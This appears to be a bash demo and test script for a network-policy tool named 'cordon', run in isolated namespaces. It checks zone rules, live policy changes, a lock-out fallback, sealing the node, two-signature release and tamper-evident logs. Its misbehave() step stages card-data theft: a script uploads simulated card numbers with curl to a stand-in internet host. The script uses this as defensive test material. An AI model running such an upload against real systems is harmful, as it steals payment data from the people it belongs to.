#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The story of `cordon demo`: a node, four zones and two workloads, with real programs on every end.
# The helper carries this script and runs it. It starts itself once more in mount, network and
# process namespaces of its own; what is made there goes with them, however it ends. Outside it
# makes nothing but one cgroup, and it must not touch this machine's interfaces, pins or policy.
#
#   CORDON   the helper to show
#   JSON     not empty: one object a check, nothing else
set -euo pipefail

SLICE=${SLICE:-cordon-demo-$$.slice}
NEEDS=(awk curl dd find grep ip mount nsenter od openssl ping python3 sed socat sysctl timeout unshare)

die() { echo "cordon: demo: $*" >&2; exit 1; }

# ---- outside: one cgroup, and an eye on the namespaces ---------------------------------------

remove_cgroup()
{
	local folder=$1 child
	[ -d "$folder" ] || return 0
	for child in "$folder"/*/ "$folder"; do
		# The last process of it may still be on its way out.
		for _ in {1..100}; do
			rmdir "$child" 2>/dev/null && break
			[ -d "$child" ] || break
			sleep 0.02
		done
	done
}

run_inside()
{
	local lacking=() program cgroup2 status=0
	[ "$(id -u)" = 0 ] || die "needs root: it makes namespaces and loads BPF programs into them"
	for program in "${NEEDS[@]}"; do
		command -v "$program" >/dev/null || lacking+=("$program")
	done
	[ ${#lacking[@]} = 0 ] || die "these programs are missing: ${lacking[*]}"
	# Unified, or in the hybrid place.
	cgroup2=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
	[ -n "$cgroup2" ] || die "no cgroup2 is mounted, so there can be no workloads"
	CGROUP=$cgroup2/$SLICE
	mkdir "$CGROUP" || die "cannot make $CGROUP"
	export CORDON JSON SLICE CGROUP

	trap 'kill -KILL "$INSIDE" 2>/dev/null || true; wait "$INSIDE" 2>/dev/null || true
	      remove_cgroup "$CGROUP"' EXIT
	trap 'exit 130' INT
	trap 'exit 143' TERM HUP
	unshare --mount --net --pid --fork --kill-child --mount-proc bash "$0" inside <&0 &
	INSIDE=$!
	wait "$INSIDE" || status=$?
	exit "$status"
}

# ---- what people see -------------------------------------------------------------------------

CHECKS=0
FAILURES=0
BOLD='' DIM='' GREEN='' RED='' PLAIN=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ] && [ "${TERM:-dumb}" != dumb ]; then
	BOLD=$'\e[1m' DIM=$'\e[2m' GREEN=$'\e[32m' RED=$'\e[31m' PLAIN=$'\e[0m'
fi

text() { [ -n "$JSON" ] || printf '%s\n' "$*"; }
title() { text; text "$BOLD$*$PLAIN"; }
note() { text "$DIM$*$PLAIN"; }
indent() { if [ -n "$JSON" ]; then cat >/dev/null; else sed 's/^./  &/'; fi; }

# result WHAT EXPECTED FOUND
result()
{
	local ok=true
	CHECKS=$((CHECKS + 1))
	[ "$2" = "$3" ] || ok=false FAILURES=$((FAILURES + 1))
	if [ -n "$JSON" ]; then
		printf '{"check": "%s", "expected": "%s", "found": "%s", "ok": %s}\n' "$1" "$2" "$3" $ok
	elif [ $ok = true ]; then
		printf '  %sok%s    %-58s %s\n' "$GREEN" "$PLAIN" "$1" "$3"
	else
		printf '  %sFAIL%s  %-58s %s, but expected: %s\n' "$RED" "$PLAIN" "$1" "$3" "$2"
	fi
}

# show COMMAND...: as a person would type it, and what it says
show()
{
	text "  $BOLD\$ cordon $*$PLAIN"
	cordon "$@" 2>&1 | indent
}

# ---- the node and what is round it -----------------------------------------------------------

OPTIONS=(--root /run/demo --bpffs /run/bpf/cordon --cgroup "${CGROUP:-}")
cordon() { "$CORDON" "${OPTIONS[@]}" "$@"; }

# on ZONE|UNIT|node COMMAND...: the node is where we are; a unit is a cgroup on it
on()
{
	local where=$1
	shift
	case $where in
	node) "$@" ;;
	pos | browser | backup | sensord)
		(echo "$BASHPID" >"$CGROUP/$where.service/cgroup.procs" && exec "$@")
		;;
	*) nsenter --net="/run/netns/$where" -- "$@" ;;
	esac
}

# join ZONE INTERFACE NET4 NET6: the node has .1 and ::1, the zone .2 and ::2
join()
{
	ip netns add "$1"
	# First of all: duplicate address detection would make each address wait for a second.
	on "$1" sysctl -qw net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.all.accept_dad=0 \
		net.ipv6.conf.default.router_solicitations=0
	ip link add "$2" type veth peer name eth0 netns "$1"
	ip address add "$3.1/${5:-24}" dev "$2"
	ip address add "$4::1/64" dev "$2"
	ip link set "$2" up
	ip -n "$1" link set lo up
	ip -n "$1" link set eth0 up
	ip -n "$1" address add "$3.2/${5:-24}" dev eth0
	ip -n "$1" address add "$4::2/64" dev eth0
	ip -n "$1" route add default via "$3.1"
	ip -n "$1" -6 route add default via "$4::1"
}

build_node()
{
	mount -t tmpfs cordon-demo /run
	mkdir -p /run/netns /run/bpf /run/demo "$CGROUP"/{backup,browser,pos,sensord}.service
	mount -t bpf cordon-demo /run/bpf
	cd /run/demo
	sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 \
		net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
	ip link set lo up
	join management mgmt0 10.20.0 fd00:20
	join payments pay0 198.51.100 2001:db8:51 28
	join devices lan0 192.168.50 fd00:50
	join internet wan0 203.0.113 2001:db8:113
	# One of the devices pretends to be in management, and a careless route helps it.
	ip -n devices address add 10.20.0.66/32 dev lo
	ip route add 10.20.0.66 dev lan0
}

write_programs()
{
	# A small HTTP server, on IPv4 and IPv6; /ticks never ends.
	cat >web.py <<-'END'
	import http.server, socket, sys, time
	class Handler(http.server.BaseHTTPRequestHandler):
	    def do_GET(self):
	        self.send_response(200)
	        self.end_headers()
	        self.wfile.write(b"hello\n")
	        while self.path == "/ticks":
	            self.wfile.write(b"tick\n")
	            time.sleep(0.02)
	class Server(http.server.ThreadingHTTPServer):
	    address_family = socket.AF_INET6
	Server(("::", int(sys.argv[1])), Handler).serve_forever()
	END
	# Answers each datagram with itself.
	cat >echo.py <<-'END'
	import socket, sys
	SO_RCVBUFFORCE = 33 # on a busy machine it may wait for its turn
	s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
	s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24)
	s.bind(("::", int(sys.argv[1])))
	while True:
	    data, sender = s.recvfrom(64)
	    s.sendto(data, sender)
	END
	# Sends a datagram every 100 microseconds for two seconds; prints when the kernel got the last
	# answer.
	cat >flood.py <<-'END'
	import socket, struct, sys, time
	SO_TIMESTAMPNS = 35
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	s.connect((sys.argv[1], int(sys.argv[2])))
	s.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
	s.setblocking(False)
	last, end = 0, time.monotonic() + 2
	open("flooding", "w").close()
	while time.monotonic() < end:
	    try:
	        s.send(b"x")
	        seconds, nanoseconds = struct.unpack("qq", s.recvmsg(8, 64)[1][0][2])
	        last = seconds * 10**9 + nanoseconds
	    except (BlockingIOError, ConnectionRefusedError):
	        pass
	    time.sleep(0.0001)
	print(last)
	END
	# Runs a command; prints when it was started and when it was done.
	cat >clock.py <<-'END'
	import os, sys, time
	start = time.time_ns()
	os.waitpid(os.posix_spawn(sys.argv[1], sys.argv[1:], os.environ,
	           file_actions=[(os.POSIX_SPAWN_OPEN, 1, "sealed", os.O_WRONLY | os.O_CREAT, 0o600)]), 0)
	print(start, time.time_ns())
	END
	# Sends numbered datagrams, one a millisecond, until there is a file "enough"; prints how
	# many it sent and how many different ones came back.
	cat >count.py <<-'END'
	import os, socket, sys, time
	SO_RCVBUFFORCE = 33
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24)
	s.connect((sys.argv[1], int(sys.argv[2])))
	sent, back, end = 0, set(), None
	while end is None or (len(back) < sent and time.monotonic() < end):
	    if end is None:
	        s.send(b"%d" % sent)
	        sent += 1
	        end = time.monotonic() + 5 if os.path.exists("enough") else None
	    time.sleep(0.001)
	    try:
	        while True:
	            back.add(int(s.recv(64, socket.MSG_DONTWAIT)))
	    except BlockingIOError:
	        pass
	print(sent, len(back))
	END
}

start_servers()
{
	on payments python3 web.py 443 2>/dev/null &
	on devices python3 web.py 80 2>/dev/null &
	on internet python3 web.py 80 2>/dev/null &
	socat TCP6-LISTEN:22,fork,reuseaddr,ipv6only=0 SYSTEM:'echo SSH-2.0-demo' >/dev/null 2>&1 &
	on sensord python3 echo.py 5683 &
}

# ---- probes: true if the packets came through, both ways -------------------------------------

WAIT=1 # seconds for the answer
try_ping() { on "$1" ping -q -n -c 1 -W "$WAIT" ${3:+-I "$3"} "$2"; }
try_ssh() { on "$1" timeout "$WAIT" socat -u "TCP:$2:22" STDOUT | grep -q SSH; }
try_http() { on "$1" curl -sf --max-time "$WAIT" -o /dev/null "http://$2/"; }
# shellcheck disable=SC2016 # expanded by the inner shell
try_udp()
{
	on "$1" bash -c 'exec 3<>"/dev/udp/$0/5683" && echo 1 >&3 &&
		[ "$(timeout "$1" head -n 1 <&3)" = 1 ]' "$2" "$WAIT"
}

# probe EXPECTED FROM TO WHAT FUNCTION ARGUMENT...: what must pass is given time
probe()
{
	local expected=$1 found=passed from=$2 to=$3 what=$4 function=$5
	shift 5
	WAIT=0.6
	[ "$expected" = denied ] && [ -z "$BEFORE" ] || WAIT=3
	"$function" "$from" "$@" >/dev/null 2>&1 || found=denied
	if [ -n "$BEFORE" ]; then
		echo "$found: $from -> $to $what" >>"$BEFORE"
		return
	fi
	result "$(flow "$from" "$to" "$what")" "$expected" "$found"
}

flow() { printf '%-10s -> %-10s  %s' "$@"; }

probe_all()
{
	probe passed management node 'tcp/22' try_ssh 10.20.0.1
	probe passed management node 'tcp/22        IPv6' try_ssh '[fd00:20::1]'
	probe passed management node 'icmp' try_ping 10.20.0.1
	probe passed management node 'icmpv6        IPv6' try_ping fd00:20::1
	probe passed management devices 'tcp/80' try_http 192.168.50.2
	probe passed management devices 'tcp/80        IPv6' try_http '[fd00:50::2]'
	probe passed devices node 'udp/5683' try_udp 192.168.50.1
	probe passed pos payments 'tcp/443' try_http 198.51.100.2:443
	probe passed browser internet 'tcp/80' try_http 203.0.113.2
	probe passed browser internet 'tcp/80        IPv6' try_http '[2001:db8:113::2]'
	probe denied devices node 'tcp/22' try_ssh 192.168.50.1
	probe denied devices node 'icmp, as 10.20.0.66' try_ping 192.168.50.1 10.20.0.66
	probe denied devices payments 'tcp/443' try_http 198.51.100.2:443
	probe denied devices internet 'tcp/80        IPv6' try_http '[2001:db8:113::2]'
	probe denied internet node 'tcp/22' try_ssh 203.0.113.1
	probe denied internet node 'tcp/22        IPv6' try_ssh '[2001:db8:113::1]'
	probe denied internet devices 'tcp/80' try_http 192.168.50.2
	probe denied pos internet 'tcp/80' try_http 203.0.113.2
	probe denied browser payments 'tcp/443' try_http 198.51.100.2:443
	probe denied backup internet 'tcp/80' try_http 203.0.113.2
}

# ---- the story -------------------------------------------------------------------------------

write_policy()
{
	cat >policy.yaml <<-'END'
	cordon: 1
	serial: 1
	node: store-0042
	zones:
	  management: {addresses: [10.20.0.0/24, "fd00:20::/64"], interfaces: [mgmt0]}
	  payments:   {addresses: [198.51.100.0/28, "2001:db8:51::/64"]}
	  devices:    {addresses: [192.168.50.0/24, "fd00:50::/64"], interfaces: [lan0]}
	  internet:   {interfaces: [wan0]}     # all that is behind it and in no other zone
	workloads:
	  pos:     {units: [pos.service]}
	  browser: {units: [browser.service]}
	rules:                                 # anything else is denied
	  - {name: admin,   from: management, to: node,     services: [tcp/22, icmp, icmpv6]}
	  - {name: cameras, from: management, to: devices,  services: [tcp/80]}
	  - {name: sensors, from: devices,    to: node,     services: [udp/5683]}
	  - {name: card,    from: pos,        to: payments, services: [tcp/443]}
	  - {name: browse,  from: browser,    to: internet, services: [tcp/80]}
	quarantine:                            # what stays possible when the node is sealed
	  keep:
	    - {name: responders, from: management, to: node, services: [tcp/22]}
	END
	sed 's/^serial: 1/serial: 2/; /name: browse/d' policy.yaml >no-browsing.yaml
	sed 's/^serial: 1/serial: 3/; /name: admin/d' policy.yaml >lock-out.yaml
}

# until_ok SECONDS COMMAND...
until_ok()
{
	local end=$((SECONDS + $1))
	shift
	until "$@" >/dev/null 2>&1; do
		[ "$SECONDS" -le "$end" ] || return 1
		sleep 0.05
	done
}

picture()
{
	text "${BOLD}A node with four zones round it and two workloads on it, in namespaces of their own$PLAIN"
	indent <<-'END'

	  management 10.20.0.2 --mgmt0-+----------------+-pay0-- payments 198.51.100.2
	                               |      node      |
	  devices 192.168.50.2 --lan0--+  pos, browser  +-wan0-- internet 203.0.113.2
	                               +----------------+
	END
}

before()
{
	local all passed
	title "Before: nothing is enforced"
	until_ok 10 try_http pos 198.51.100.2:443 || die "the HTTP servers do not start"
	BEFORE=before
	probe_all
	BEFORE=''
	all=$(wc -l <before)
	passed=$(grep -c ^passed before || true)
	result "$all probes, also those that must not pass later" "$all passed" "$passed passed"
	grep -v ^passed before | indent || true
}

load()
{
	title "The policy"
	indent <policy.yaml
	text
	show check policy.yaml | sed '/^$/,$d'
	show apply policy.yaml
	"$CORDON" "${OPTIONS[@]}" run >run.log 2>&1 &
	DAEMON=$!
	until_ok 5 grep -q following run.log || die "cordon run does not start: $(cat run.log)"
}

enforced()
{
	title "The same probes with the policy in force"
	probe_all
}

counted()
{
	title "What the kernel counted"
	show counters
	text
	text "  ${BOLD}\$ cordon run${PLAIN}, of the browser's attempt on payments"
	until_ok 3 grep -q 'by curl.*browser.service' run.log || true
	grep 'browser.service' run.log | indent
}

# grows FILE: does it still, half a second later?
grows()
{
	local size
	size=$(stat -c %s "$1")
	sleep 0.5
	[ "$(stat -c %s "$1")" -gt "$size" ]
}

# carried_on EXPECTED TEXT FILE: does what an open connection writes there grow?
carried_on()
{
	local expected=$1 text=$2 found='goes on'
	grows "$3" || found='cut off'
	result "$text" "$expected" "$found"
}

change()
{
	local sent back counter rounds
	title "Another policy, under traffic: the browser may browse no more"
	on devices python3 count.py 192.168.50.1 5683 >counted &
	counter=$!
	on pos curl -sN http://198.51.100.2:443/ticks >card &
	on browser curl -sN http://203.0.113.2/ticks >browse &
	until_ok 5 test -s card -a -s browse || die "the downloads do not start"
	for rounds in 1 2 3 4; do
		cordon apply --force policy.yaml >/dev/null
		cordon apply no-browsing.yaml >applied
		sleep 0.2
	done
	text "  $BOLD\$ cordon apply no-browsing.yaml$PLAIN    and back, and again, $rounds times"
	indent <applied
	carried_on 'goes on' "$(flow pos payments 'tcp/443, an open connection')" card
	carried_on 'cut off' "$(flow browser internet 'tcp/80, an open connection')" browse
	probe denied browser internet 'tcp/80' try_http 203.0.113.2
	touch enough
	wait "$counter"
	read -r sent back <counted
	result "$(flow devices node 'udp/5683, numbered datagrams')" \
		"$sent of $sent answered" "$back of $sent answered"
}

fall_back()
{
	local start=$EPOCHREALTIME lapsed
	title "A policy that locks its author out, on trial, and nobody left to help"
	show apply lock-out.yaml --confirm 2
	kill -KILL "$DAEMON"
	wait "$DAEMON" 2>/dev/null || true
	note "  (cordon run is killed)"
	probe denied management node 'tcp/22' try_ssh 10.20.0.1
	until_ok 5 try_ssh management 10.20.0.1 || true
	lapsed=$(awk -v a="$start" -v b="$EPOCHREALTIME" 'BEGIN { printf "%.1f", b - a }')
	probe passed management node "tcp/22, after $lapsed s" try_ssh 10.20.0.1
	probe denied devices node 'tcp/22' try_ssh 192.168.50.1
}

# ---- the second act: the kill switch ---------------------------------------------------------

# Two people must agree to reopen a node, one to shut it.
make_keys()
{
	local name
	mkdir -p etc/cordon/trust
	for name in ada grace; do
		openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=$name" \
			-addext basicConstraints=critical,CA:FALSE -keyout $name.key -out $name.pem 2>/dev/null
	done
	cat ada.pem grace.pem >etc/cordon/trust/release.pem
	echo 'release 2' >etc/cordon/trust/threshold
}

# sign_release FILE COUNTER NAME...
sign_release()
{
	local file=$1 counter=$2 name keys=()
	shift 2
	for name in "$@"; do keys+=(--cert $name.pem --key $name.key); done
	"$CORDON" sign order release --node store-0042 --counter "$counter" --issuer soc@example.com \
		--reason 'the cause is found' "${keys[@]}" -o "$file" >/dev/null
}

# What the card reader's program does that it should not.
misbehave()
{
	cat >collect.sh <<-'END'
	tail -n 3 sold >cards
	curl -s --max-time 1 -T cards http://203.0.113.2/drop
	END
	on pos sh collect.sh >/dev/null 2>&1 || true
}

seal()
{
	local start done last flood
	title "A card reader misbehaves: the node is sealed, under traffic"
	INCIDENT=$SECONDS
	on devices python3 flood.py 192.168.50.1 5683 >last &
	flood=$!
	on pos curl -sN http://198.51.100.2:443/ticks >sold &
	on management socat -u TCP:10.20.0.1:22 STDOUT >/dev/null
	until_ok 5 test -s sold -a -e flooding || die "the traffic does not start"
	misbehave
	read -r start done < <(python3 clock.py "$CORDON" "${OPTIONS[@]}" seal isolate --reason 'card data seen leaving')
	text "  $BOLD\$ cordon seal isolate --reason 'card data seen leaving'$PLAIN"
	indent <sealed
	carried_on 'cut off' "$(flow pos payments 'tcp/443, an open connection')" sold
	wait "$flood"
	read -r last <last
	# A datagram may have come back before the command had even begun to work.
	[ "$last" -gt "$start" ] || last=$start
	result "the last packet $(ms "$start" "$last") ms after exec, all done after $(ms "$start" "$done") ms" \
		contained "$([ "$last" -lt "$done" ] && echo contained || echo 'not contained')"
	probe denied devices node 'udp/5683' try_udp 192.168.50.1
	probe denied pos payments 'tcp/443' try_http 198.51.100.2:443
	probe denied management devices 'tcp/80' try_http 192.168.50.2
	probe denied management node 'icmp' try_ping 10.20.0.1
	probe passed management node 'tcp/22, of the keep list' try_ssh 10.20.0.1
	text
	text "  $BOLD\$ cordon status$PLAIN"
	cordon status | sed '/^generation/,$d' | indent
}

ms() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", (b - a) / 1e6 }'; }

# tried EXPECTED WHAT COMMAND...: refused or done, and what was said
tried()
{
	local expected=$1 what=$2 found=done
	shift 2
	cordon "$@" >said 2>&1 || found=refused
	result "$what" "$expected" "$found"
	[ $found = done ] || indent <said
}

reopen()
{
	title "Reopened only by a signature"
	sign_release one.p7 1 ada
	sign_release both.p7 1 ada grace
	tried refused 'cordon detach' detach
	tried refused 'cordon release, by root' release
	tried refused 'an order to release, signed by one of two' order one.p7
	tried done 'an order to release, signed by both' order both.p7
	text "  ${BOLD}its receipt$PLAIN"
	grep -E '^(signed-by|action|counter|reason|latch|policy|program: egress_ether)' said | indent
	probe passed pos payments 'tcp/443' try_http 198.51.100.2:443
	cordon seal isolate --reason 'once more' >/dev/null
	tried refused 'the same order, once more' order both.p7
	sign_release next.p7 2 ada grace
	tried done 'a new one' order next.p7
}

# ---- the third act: what happened ------------------------------------------------------------

# happened TEXT COMMAND...: lines are as wide as what they tell
happened()
{
	text "  $BOLD\$ cordon events $1$PLAIN"
	shift
	"$@" | indent
	text
}

timeline() { cordon events --since "$1" --class enforcement,denial | grep -E 'by curl|enforcement (latch|order)' | cut -c 12-130; }
tree() { cordon events --since "$1" --tree --unit pos.service | cut -c 12-130; }

# The byte in its middle.
flip()
{
	local segment=$1 size byte
	size=$(stat -c %s "$segment")
	byte=$(od -An -tu1 -j $((size / 2)) -N 1 "$segment")
	printf '%b' "\\x$(printf %x $((byte ^ 1)))" |
		dd of="$segment" bs=1 seek=$((size / 2)) conv=notrunc status=none
}

look_back()
{
	local since=$((SECONDS - INCIDENT + 1))s found=sound last
	title "What happened, by the log: on the node, or on another machine"
	happened "--since $since --class enforcement,denial" timeline "$since"
	happened "--since $since --tree --unit pos.service" tree "$since"
	result 'the program that collected the cards is in it' 1 \
		"$(cordon events --since "$since" --unit pos.service | grep -c 'exec sh.*collect.sh')"
	cordon log verify --key node.key >verified || found='not sound'
	text "  $BOLD\$ cordon log verify --key node.key$PLAIN"
	sed '/^$/d' verified | indent
	result 'the log is what the node wrote' sound "$found"
	cp -r var/lib/cordon/log edited
	last=$(find edited -name 'enforcement.*' ! -name '*.zst' -printf '%s %p\n' | sort -n | tail -n 1)
	last=${last#* }
	flip "$last"
	found=found
	cordon log verify edited --key node.key >verified && found='not found'
	grep BREACH verified | indent
	result "one bit of $last flipped" found "$found"
}

take_down()
{
	title "Down"
	show detach
	# The kernel lets go of links a moment after their pins are gone.
	until_ok 2 try_ssh devices 192.168.50.1 || true
	probe passed devices node 'tcp/22' try_ssh 192.168.50.1
	result 'pins left' 0 "$(find /run/bpf/cordon -type f 2>/dev/null | wc -l)"
}

# Should nobody outside be left to do it; the namespaces go by themselves.
leave()
{
	local status=$?
	exec 2>/dev/null # bash would tell of each
	[ $$ != 1 ] || kill -KILL -1
	remove_cgroup "$CGROUP"
	exit "$status"
}

tell_story()
{
	trap leave EXIT
	trap 'exit 130' INT
	trap 'exit 143' TERM HUP
	BEFORE=''
	build_node
	write_programs
	write_policy
	start_servers
	picture
	before
	load
	enforced
	counted
	change
	fall_back
	make_keys
	cordon log key node.key >/dev/null
	seal
	reopen
	look_back
	take_down
	text
	if [ "$FAILURES" != 0 ]; then
		text "$RED$FAILURES of $CHECKS checks were not as expected$PLAIN"
		exit 1
	fi
	text "All $CHECKS checks as expected, in $SECONDS s. Nothing is left behind."
}

if [ "${1:-}" = inside ]; then
	tell_story
else
	run_inside
fi
